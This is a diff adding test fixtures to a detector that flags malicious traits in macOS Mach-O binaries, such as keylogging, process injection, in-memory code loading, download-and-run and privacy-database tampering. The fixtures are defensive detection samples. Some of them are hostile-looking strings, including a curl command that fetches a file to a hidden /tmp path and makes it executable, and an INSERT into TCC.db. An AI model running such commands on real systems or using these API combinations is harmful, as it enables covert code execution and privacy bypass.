@@ -61,6 +61,28 @@ const TRAITS: Readonly<Record<string, Trait>> = {
     hits: { 'speaks to a pool': texts('stratum+tcp://pool.example', 'cryptonight', 'donate-level') },
     misses: { 'names an algorithm': texts('cryptonight', 'randomx') },
   },
+  macho_logs_keystrokes: {
+    hits: { 'hears and hides': { ...texts('/private/tmp/.k'), imports: ['_CGEventTapCreate'] } },
+    misses: { 'hot keys': { ...texts('/tmp/socket'), imports: ['_CGEventTapCreate'] } },
+  },
+  macho_injects_into_processes: {
+    hits: { 'writes and starts': { imports: ['_task_for_pid', '_mach_vm_write', '_thread_create_running'] } },
+    misses: { 'reads alone': { imports: ['_task_for_pid', '_mach_vm_read'] } },
+  },
+  macho_loads_code_from_memory: {
+    hits: { 'links bytes': { imports: ['_NSCreateObjectFileImageFromMemory', '_NSLinkModule'] } },
+    misses: { 'links a file': { imports: ['_NSCreateObjectFileImageFromFile', '_NSLinkModule'] } },
+  },
+  macho_downloads_and_runs: {
+    hits: { 'by commands': texts('curl -sL https://a.example/f -o /tmp/.f && chmod +x /tmp/.f') },
+    misses: { 'an upload': texts('curl -F f=@a https://a.example'), 'a mode': texts('chmod +x %s') },
+  },
+  macho_changes_privacy_database: {
+    hits: {
+      'writes a row': texts('/Library/Application Support/com.apple.TCC/TCC.db', 'INSERT INTO access VALUES(1)'),
+    },
+    misses: { 'reads it': texts('/Library/Application Support/com.apple.TCC/TCC.db', 'SELECT * FROM access') },
+  },
 }
 
 async function findingsOf(recipe: MachoRecipe): Promise<readonly string[]> {
